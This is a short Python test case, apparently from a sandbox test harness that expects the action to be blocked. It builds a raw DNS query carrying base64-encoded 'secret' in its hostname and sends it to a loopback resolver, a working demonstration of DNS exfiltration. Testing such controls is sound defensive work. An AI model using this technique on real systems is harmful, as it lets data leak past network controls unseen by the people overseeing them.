# ruff: noqa: F821, E402, SIM115 - T (the targets) comes from the harness; attacks keep files open
"""Send a DNS query carrying data in its name to a resolver on the host's loopback (DNS
exfiltration)."""

# expect: blocked
import socket
import struct

name = b"".join(bytes([len(p)]) + p for p in (b"c2VjcmV0", b"example", b"com")) + b"\0"
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(query, ("127.0.0.1", T["UDP_PORT"]))
print(T["MARK"])
